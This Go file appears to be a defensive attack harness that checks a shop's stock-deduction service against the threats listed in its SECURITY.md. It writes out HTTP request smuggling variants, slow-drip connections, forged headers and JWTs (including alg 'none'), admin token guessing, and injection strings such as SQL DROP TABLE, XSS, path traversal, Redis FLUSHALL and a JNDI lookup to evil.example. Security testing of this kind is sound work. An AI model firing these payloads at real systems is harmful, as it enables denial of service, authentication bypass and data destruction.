package hostile

import (
	"context"
	"encoding/base64"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
)

// Attack is one way to do harm: it makes one request, or uses one connection.
type Attack struct {
	// Name is what the report calls it, Row its row in SECURITY.md.
	Name, Row string
	// Weight is how often it is picked beside the others; 0 is 1.
	Weight int
	// Largest bounds the bytes of one answer; 0 sets no bound.
	Largest int
	// Denied tells that no answer may be a success.
	Denied bool

	do func(context.Context, *attacker) []outcome
}

// Attacks lists all that the attacker does. One more is one entry more.
func Attacks() []Attack {
	return slices.Concat(identities(), stolenKeys(), floods(), lines(), forgeries(), adminAttacks(), connections(), malformed())
}

// schedule is what one connection does: every attack once, from another one on than the
// other connections, and then any.
type schedule struct {
	attacks []Attack
	number  int
	made    int
	total   int
}

func newSchedule(attacks []Attack, number int) *schedule {
	s := &schedule{attacks: attacks, number: number}
	for _, attack := range attacks {
		s.total += max(1, attack.Weight)
	}
	return s
}

func (s *schedule) next(a *attacker) int {
	s.made++
	if s.made <= len(s.attacks) {
		return (s.number + s.made) % len(s.attacks)
	}
	n := a.IntN(s.total)
	return slices.IndexFunc(s.attacks, func(attack Attack) bool {
		n -= max(1, attack.Weight)
		return n < 0
	})
}

// largestProblem is the most bytes of an answer that says what is wrong.
const largestProblem = 8 << 10

// identities are attacks by the buyer and the item of a purchase.
func identities() []Attack {
	return []Attack{
		{Name: "buy items that do not exist", Row: "1", Weight: 4, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": a.id(), accountField: a.account()}, nil)
		}},
		{Name: "buy items that do not exist through any strategy", Row: "1", Weight: 4, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": a.id(), accountField: a.account(), "strategy": pick(a, a.strategies...)}, nil)
		}},
		{Name: "read items that do not exist", Row: "1", do: func(ctx context.Context, a *attacker) []outcome {
			return a.get(ctx, pick(a, "/goods/", "/orders/")+a.id()+pick(a, "", "", "/audit"))
		}},
		{Name: "buy as invented users", Row: "2", Weight: 2, do: inventUser},
		{Name: "buy as an honest user", Row: "2", do: func(ctx context.Context, a *attacker) []outcome {
			_, user := a.stolen(a.Rand)
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...)), accountField: a.account(), "user_id": user}, nil)
		}},
		{Name: "buy without a user", Row: "2", do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.items()...))}, nil)
		}},
		{Name: "buy 5,000 units", Row: "3", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.items()...)), "quantity": strconv.Itoa(pick(a, 5000, 11, 100, 1_000_000)), accountField: a.account()}, nil)
		}},
	}
}

func stolenKeys() []Attack {
	return []Attack{
		{Name: "replay a stolen key", Row: "4", do: func(ctx context.Context, a *attacker) []outcome {
			key, user := a.stolen(a.Rand)
			return a.buy(ctx, map[string]string{"goods_id": itoa(a.hot), accountField: pick(a, "", a.account(), strings.ToUpper(user))}, map[string]string{"Idempotency-Key": key})
		}},
		{Name: "look up a stolen key", Row: "4", do: func(ctx context.Context, a *attacker) []outcome {
			key, _ := a.stolen(a.Rand)
			return a.get(ctx, "/orders?request_id="+url.QueryEscape(key))
		}},
		{Name: "guess keys", Row: "4", do: func(ctx context.Context, a *attacker) []outcome {
			key := pick(a, restockKey(a.IntN(8)), "order-"+strconv.Itoa(a.IntN(100)), strconv.Itoa(a.IntN(1000)))
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...)), accountField: a.account()}, map[string]string{"Idempotency-Key": key})
		}},
		{Name: "use up keys", Row: "4", do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...)), accountField: a.account()}, map[string]string{"Idempotency-Key": a.text(128)})
		}},
	}
}

// floods are attacks by what a purchase costs.
func floods() []Attack {
	return []Attack{
		{Name: "buy items of slow strategies", Row: "5", Weight: 8, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...)), accountField: a.account()}, nil)
		}},
		{Name: "name a strategy for the hot item", Row: "5", Weight: 4, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{
				"goods_id": itoa(a.hot), accountField: a.account(), "strategy": pick(a, a.strategies...),
				"group": pick(a, "true", "false"), "fence": pick(a, "true", "false"),
			}, nil)
		}},
		{Name: "send 16 KiB of unknown fields", Row: "6", Weight: 2, Largest: largestProblem, do: unknownFields},
		{Name: "send hundreds of query parameters", Row: "6", Largest: largestProblem, do: func(ctx context.Context, a *attacker) []outcome {
			return a.send(ctx, request{method: http.MethodPost, path: "/deduct?" + strings.Repeat(a.text(1)+"=1&", 900), header: a.signed()})
		}},
		{Name: "nest 16 KiB of JSON", Row: "6", Largest: largestProblem, do: func(ctx context.Context, a *attacker) []outcome {
			open := pick(a, "[", `{"a":`, `{"goods_id":[`)
			return a.send(ctx, request{method: http.MethodPost, path: "/deduct", body: strings.Repeat(open, 16000/len(open)), header: a.signed()})
		}},
		{Name: "name a strategy that is not configured", Row: "7", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(a.hot), accountField: a.account(), "strategy": pick(a, "etcd", "zk-sequential", "redlock", "redsync", "hope")}, nil)
		}},
		{Name: "list strategies and the description", Row: "5", do: func(ctx context.Context, a *attacker) []outcome {
			return a.get(ctx, pick(a, "/strategies", "/openapi.yaml"))
		}},
	}
}

// lines are attacks on the waiting room of an item.
func lines() []Attack {
	return []Attack{
		{Name: "forge a ticket", Row: "15", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			content := a.bytes(16) + itoa(lineItem) + ".0." + a.account()
			return a.get(ctx, "/queue/"+pick(a, a.text(40), base64.RawURLEncoding.EncodeToString([]byte(content)), base64.RawURLEncoding.EncodeToString([]byte(content[16:]))))
		}},
		{Name: "buy with the ticket of another buyer", Row: "15", Weight: 2, Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			ticket, _ := a.join(ctx, a.account())
			return a.buy(ctx, map[string]string{"goods_id": itoa(lineItem), accountField: "no-" + a.account()}, map[string]string{"Idempotency-Key": ticket})
		}},
		{Name: "join the line again and again", Row: "15", Weight: 4, do: func(ctx context.Context, a *attacker) (list []outcome) {
			account := a.account()
			for range 5 {
				_, got := a.join(ctx, account)
				list = append(list, got...)
			}
			return list
		}},
		{Name: "ask for a place without a pause", Row: "15", Weight: 2, do: func(ctx context.Context, a *attacker) (list []outcome) {
			ticket, list := a.join(ctx, a.account())
			for range 10 {
				list = append(list, a.get(ctx, "/queue/"+ticket)...)
			}
			return list
		}},
	}
}

// join has an account join the line. Its ticket is empty where it gets none.
func (a *attacker) join(ctx context.Context, account string) (ticket string, list []outcome) {
	user, header := a.identify(account)
	query := url.Values{"goods_id": {itoa(lineItem)}}
	if user != "" {
		query.Set("user_id", user)
	}
	list = a.send(ctx, request{method: http.MethodPost, path: "/queue?" + query.Encode(), header: header})
	return list[0].ticket, list
}

func itoa(id int64) string { return strconv.FormatInt(id, 10) }

// accountField is the field of an account that the attacker has: user_id where a buyer is who
// it says it is, and else a token.
const accountField = "account"

func (a *attacker) account() string { return "attacker-" + strconv.Itoa(a.IntN(1000)) }

// identify names the buyer by its user_id or, where buyers have tokens, in a header.
func (a *attacker) identify(user string) (userID string, header map[string]string) {
	if a.issuer.secret == "" {
		return user, nil
	}
	return "", map[string]string{"Authorization": "Bearer " + a.issuer.token(user)}
}

// signed is the header of a request whose body says nothing of the buyer.
func (a *attacker) signed() map[string]string {
	_, header := a.identify(a.account())
	return header
}

// buy sends a purchase; an empty value is not sent.
func (a *attacker) buy(ctx context.Context, fields, header map[string]string) []outcome {
	values, headers := make(url.Values), make(map[string]string)
	for name, value := range fields {
		if value != "" && name != accountField {
			values.Set(name, value)
		}
	}
	if account := fields[accountField]; account != "" {
		user, identity := a.identify(account)
		if user != "" && fields["user_id"] == "" {
			values.Set("user_id", user)
		}
		maps.Copy(headers, identity)
	}
	maps.Copy(headers, header)
	return a.send(ctx, request{method: http.MethodPost, path: "/deduct?" + values.Encode(), header: headers})
}

func (a *attacker) get(ctx context.Context, path string) []outcome {
	return a.send(ctx, request{method: http.MethodGet, path: path})
}

// inventUser buys as a user that may be written in several ways.
func inventUser(ctx context.Context, a *attacker) []outcome {
	number := a.IntN(50)
	user := pick(a, fmt.Sprintf(`%d`, number), fmt.Sprintf(`%d.0`, number), fmt.Sprintf(`" %d"`, number), fmt.Sprintf(`"%d "`, number),
		fmt.Sprintf(`%de0`, number), `-0`, `null`, `""`, `[1]`, `"e\u0301"`, `"\u00e9"`, `"\u0000"`, `"`+a.text(64)+`"`, `"`+a.text(65)+`"`)
	return a.send(ctx, request{
		method: http.MethodPost, path: "/deduct", body: fmt.Sprintf(`{"goods_id": %d, "user_id": %s}`, pick(a, a.slow...), user),
	})
}

func unknownFields(ctx context.Context, a *attacker) []outcome {
	var body strings.Builder
	body.WriteString(`{"goods_id": 1`)
	for i := 0; body.Len() < 16000; i++ {
		fmt.Fprintf(&body, `,"%s%d":1`, pick(a, "", "x", `\u0000`), i)
	}
	body.WriteByte('}')
	return a.send(ctx, request{method: http.MethodPost, path: "/deduct", body: body.String(), header: a.signed()})
}

// The heads of requests.
const (
	purchase = "POST /deduct HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n"
	get      = "GET /healthz HTTP/1.1\r\nHost: shop\r\n"
)

// connections are attacks by connections that do little, each with one of its own.
func connections() []Attack {
	return []Attack{
		{Name: "send a header slowly", Row: "10", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.drip(ctx, a.anyListener(), purchase+"X-Slow: ")
		}},
		{Name: "send a body slowly", Row: "10", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.drip(ctx, a.anyListener(), purchase+"Content-Length: 4000\r\n\r\n{")
		}},
		{Name: "drop a purchase in the middle", Row: "10", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			text := a.purchase(pick(a, a.slow...), a.text(20))
			return a.drop(ctx, a.public, text[:len(text)-a.IntN(len(text))])
		}},
		{Name: "drop a purchase before its answer", Row: "10", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			return a.drop(ctx, a.public, a.purchase(pick(a, a.items()...), a.text(20)))
		}},
		{Name: "open a connection and close it", Row: "10", Weight: 4, do: func(ctx context.Context, a *attacker) []outcome {
			return a.drop(ctx, a.anyListener(), "")
		}},
		{Name: "open a connection and say nothing", Row: "10", do: func(ctx context.Context, a *attacker) []outcome {
			return a.write(ctx, a.anyListener(), "", 1)
		}},
	}
}

// malformed are attacks at the edge of HTTP, each on a connection of its own.
func malformed() []Attack {
	return []Attack{
		{Name: "pipeline requests", Row: "10", do: func(ctx context.Context, a *attacker) []outcome {
			request := pick(a, get, purchase+"Content-Length: 0\r\n", fmt.Sprintf("POST /deduct?goods_id=%s HTTP/1.1\r\nHost: shop\r\nContent-Length: 0\r\n", a.id()))
			return a.write(ctx, a.public, strings.Repeat(request+"\r\n", 20), 20)
		}},
		{Name: "send oversized headers", Row: "10", do: func(ctx context.Context, a *attacker) []outcome {
			big := pick(a, "X-Big: "+a.text(64<<10)+"\r\n", strings.Repeat("X-Many: 1\r\n", 6000), "Cookie: "+a.text(9000)+"\r\n")
			return a.write(ctx, a.anyListener(), get+big+"\r\n", 1)
		}},
		{Name: "send an oversized line", Row: "10", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.write(ctx, a.anyListener(), "GET /"+a.text(32<<10)+" HTTP/1.1\r\nHost: shop\r\n\r\n", 1)
		}},
		{Name: "send an oversized body", Row: "10", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.write(ctx, a.anyListener(), purchase+pick(a, "Content-Length: 1048576\r\n\r\n"+a.text(64<<10), "Transfer-Encoding: chunked\r\n\r\n10000\r\n"+a.text(64<<10)+"\r\n"), 1)
		}},
		{Name: "smuggle a request", Row: "10", Denied: true, do: smuggle},
		{Name: "speak something else", Row: "10", do: func(ctx context.Context, a *attacker) []outcome {
			return a.write(ctx, a.anyListener(), pick(a, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"+a.bytes(500), "GET /\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
				"*1\r\n$4\r\nPING\r\n\r\n\r\n", a.bytes(300)+"\r\n\r\n", "CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
				"GET http://evil.example/ HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n", "GET /healthz HTTP/1.1\r\n\r\n", "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"), 1)
		}},
	}
}

func (a *attacker) purchase(item int64, key string) string {
	user, header := a.identify(a.account())
	body := fmt.Sprintf(`{"goods_id": %d}`, item)
	if user != "" {
		body = fmt.Sprintf(`{"goods_id": %d, "user_id": %q}`, item, user)
	}
	identity := ""
	for name, value := range header {
		identity = name + ": " + value + "\r\n"
	}
	return fmt.Sprintf("POST /deduct HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nIdempotency-Key: %s\r\n%sContent-Length: %d\r\n\r\n%s", key, identity, len(body), body)
}

// anyListener is the public one mostly.
func (a *attacker) anyListener() string {
	return pick(a, a.public, a.public, a.public, a.admins[a.IntN(len(a.admins))])
}

// smuggledKey begins the keys of smuggled purchases.
const smuggledKey = "smuggled-"

// smuggle sends a request whose end two servers may see at different places: the
// smuggled one must not be served. It is a purchase that is sold where it is served.
func smuggle(ctx context.Context, a *attacker) []outcome {
	smuggled := a.purchase(pick(a, a.slow...), smuggledKey+a.text(12))
	head := "POST /deduct?goods_id=" + a.id() + " HTTP/1.1\r\nHost: shop\r\n"
	return a.write(ctx, a.public, head+pick(a,
		fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", len(smuggled)+5, smuggled),
		fmt.Sprintf("Content-Length: 4\r\nContent-Length: %d\r\n\r\n%s", len(smuggled), smuggled),
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"+smuggled,
		"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"+smuggled,
		"Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"+smuggled,
		"Content-Length: -1\r\n\r\n"+smuggled, "Content-Length: +0\r\n\r\n"+smuggled,
		"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"+smuggled,
	), 2)
}

// forgeries are attacks by what a client says of itself.
func forgeries() []Attack {
	return []Attack{
		{Name: "forge the address", Row: "13", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			forged := fmt.Sprintf("198.51.100.%d", a.IntN(256))
			header := make(map[string]string)
			for _, name := range []string{"X-Forwarded-For", "X-Real-IP", "Forwarded", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP"} {
				header[name] = pick(a, forged, "127.0.0.1", "for="+forged, forged+", 127.0.0.1", "2001:db8::1%eth0", ",")
			}
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...)), accountField: a.account()}, header)
		}},
		{Name: "forge the buyer", Row: "2", do: func(ctx context.Context, a *attacker) []outcome {
			key, user := a.stolen(a.Rand)
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...))}, map[string]string{"X-Stockd-Buyer": user, "Idempotency-Key": key})
		}},
		{Name: "forge a token", Row: "2", Weight: 2, do: func(ctx context.Context, a *attacker) []outcome {
			return a.buy(ctx, map[string]string{"goods_id": itoa(pick(a, a.slow...))}, map[string]string{"Authorization": pick(a, "Bearer ", "bearer ", "Basic ", "") + a.token()})
		}},
		{Name: "forge the host and the prefix", Row: "11", do: func(ctx context.Context, a *attacker) []outcome {
			return a.send(ctx, request{
				method: http.MethodGet, path: pick(a, "/goods/1/", "/deduct/", "//evil.example/", "/healthz"), host: pick(a, "evil.example", "127.0.0.1", "localhost:1"),
				header: map[string]string{"X-Forwarded-Prefix": "//evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Original-URL": "/goods"},
			})
		}},
		{Name: "add a slash", Row: "11", do: func(ctx context.Context, a *attacker) []outcome {
			path := pick(a, "/deduct/", "/goods/1/", "//deduct", "/deduct/..", "/./deduct", "/readyz/", "/DEDUCT", "/goods//1", "/strategies/")
			return a.send(ctx, request{method: pick(a, http.MethodPost, http.MethodGet), path: path, header: map[string]string{"X-Forwarded-Prefix": "/evil"}})
		}},
		{Name: "ask whether it is ready", Row: "11", Weight: 3, do: func(ctx context.Context, a *attacker) []outcome {
			return a.get(ctx, pick(a, "/readyz", "/healthz", "/readyz?"+a.text(5)))
		}},
		{Name: "put fragments of languages into fields", Row: "1", do: func(ctx context.Context, a *attacker) []outcome {
			fragment := pick(a, `1'; DROP TABLE tb_goods_stock; --`, `1 OR 1=1`, `"><script>alert(1)</script>`, `return redis.call('FLUSHALL')`,
				`../../etc/passwd`, "\x00\x01", "\r\nX-Injected: yes", `%s%n%d`, `${jndi:ldap://evil.example/}`)
			field := pick(a, "goods_id", "quantity", "user_id", "strategy", "group", "durable", a.text(3))
			return a.buy(ctx, map[string]string{"goods_id": "1", field: fragment}, a.signed())
		}},
		{Name: "send anything", Row: "6", Weight: 3, do: anything},
	}
}

// anything is a request of random parts.
func anything(ctx context.Context, a *attacker) []outcome {
	path := pick(a, "/deduct", "/goods/", "/orders", "/strategies", "/", "/metrics", "/debug/pprof/", "/lab/faults") +
		pick(a, "", "?", "?goods_id=", "/../") + url.QueryEscape(a.bytes(a.IntN(40)))
	header := map[string]string{"X-Request-ID": a.text(a.IntN(200)), "Idempotency-Key": a.text(1 + a.IntN(200)), "Traceparent": a.text(55)}
	if a.IntN(2) == 0 {
		header["Content-Type"] = pick(a, "application/json", "application/x-www-form-urlencoded", "text/html", "multipart/form-data; boundary=x", "application/json; charset=utf-16")
	}
	method := pick(a, http.MethodPost, http.MethodGet, http.MethodPut, http.MethodPatch, http.MethodDelete, http.MethodOptions, http.MethodTrace, "BREW")
	body := pick(a, "", a.bytes(a.IntN(2000)), `{"goods_id": 1, "quantity": 1e3}`, `{"goods_id": 1} {}`, `{"goods_id": 1, "goods_id": 2}`, "goods_id=1&goods_id=2")
	return a.send(ctx, request{method: method, path: path, header: header, body: body})
}

// token is a JWT that no issuer signed.
func (a *attacker) token() string {
	_, user := a.stolen(a.Rand)
	algorithm := pick(a, "none", "None", "HS256", "HS512", "EdDSA", "RS256", "", "ES256")
	header := fmt.Sprintf(`{"alg":%q,"typ":"JWT","kid":%q,"jwk":{"kty":"oct","k":"AAAA"},"jku":"http://evil.example/"}`, algorithm, pick(a, "", "1", "../../dev/null", a.text(20)))
	claims := fmt.Sprintf(`{"sub":%q,"exp":%d,"aud":%q}`, user, pick[int64](a, 0, 1_000_000_000, 4_000_000_000, 1<<60), pick(a, "shop", "", "stockd"))
	whole := sign(header, claims, pick(a, "", "secret", "password", "0123456789abcdef0123456789abcdef"))
	unsigned := whole[:strings.LastIndexByte(whole, '.')]
	return pick(a, whole, unsigned+".", unsigned, a.text(40), strings.Repeat(a.text(8), 900), "..", a.text(6)+"."+a.text(9)+"."+a.text(9))
}

func adminAttacks() []Attack {
	return []Attack{
		{Name: "guess the admin token", Row: "8", Weight: 3, Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.adminCall(ctx, map[string]string{"Authorization": pick(a, "Bearer ", "bearer ", "Basic ", "") +
				pick(a, "", strings.Repeat("a", 16), "change-me-change-me", "stockd-admin-token", "secret", a.text(26), a.text(4000))})
		}},
		{Name: "write without a token", Row: "8", Denied: true, do: func(ctx context.Context, a *attacker) []outcome { return a.adminCall(ctx, nil) }},
		// With the token, so that the host alone is what it can be rejected for.
		{Name: "rebind the admin API", Row: "9", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.send(ctx, request{
				method: http.MethodGet, path: pick(a, "/goods/1", "/metrics", "/strategies"), admin: true,
				host:   pick(a, "evil.example", "evil.example:80", "127.0.0.1.evil.example", "localhost.evil.example"),
				header: map[string]string{"Origin": "http://evil.example", "Authorization": "Bearer " + a.adminToken},
			})
		}},
		{Name: "learn what is switched on", Row: "11", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.send(ctx, request{
				method: pick(a, http.MethodGet, http.MethodPost, http.MethodPut, http.MethodDelete), admin: true,
				path: pick(a, "/debug/pprof/", "/metrics", "/lab/faults", "/nothing", "/goods", "/strategies/naive"),
			})
		}},
		{Name: "write on the public API", Row: "8", Denied: true, do: func(ctx context.Context, a *attacker) []outcome {
			return a.send(ctx, request{
				method: http.MethodPost, path: pick(a, "/goods", "/goods/"+itoa(a.hot)+"/restock", "/goods/"+itoa(a.hot)+"/recall", "/lab/faults"),
				body: `{"goods_id": 7, "stock": 1000, "quantity": 1000}`, header: map[string]string{"Authorization": "Bearer " + a.text(26)},
			})
		}},
	}
}

// adminCall is a request that writes, or reads what only an admin may.
func (a *attacker) adminCall(ctx context.Context, header map[string]string) []outcome {
	hot := itoa(a.hot)
	return a.send(ctx, pick(a,
		request{method: http.MethodPost, path: "/goods", body: `{"goods_id": ` + a.id() + `, "stock": 1}`, admin: true, header: header},
		request{method: http.MethodPost, path: "/goods/" + hot + "/restock", body: `{"quantity": 1000}`, admin: true, header: header},
		request{method: http.MethodPost, path: "/goods/" + hot + "/recall", body: `{}`, admin: true, header: header},
		request{method: http.MethodPatch, path: "/goods/" + hot, body: `{"per_user": 1000}`, admin: true, header: header},
		request{method: http.MethodPut, path: "/strategies/sql-conditional", body: `{"enabled": false, "reason": "mine"}`, admin: true, header: header},
		request{method: http.MethodGet, path: "/orders?goods_id=" + hot, admin: true, header: header},
		request{method: http.MethodGet, path: "/goods/" + hot + "/audit?full=true", admin: true, header: header},
	))
}
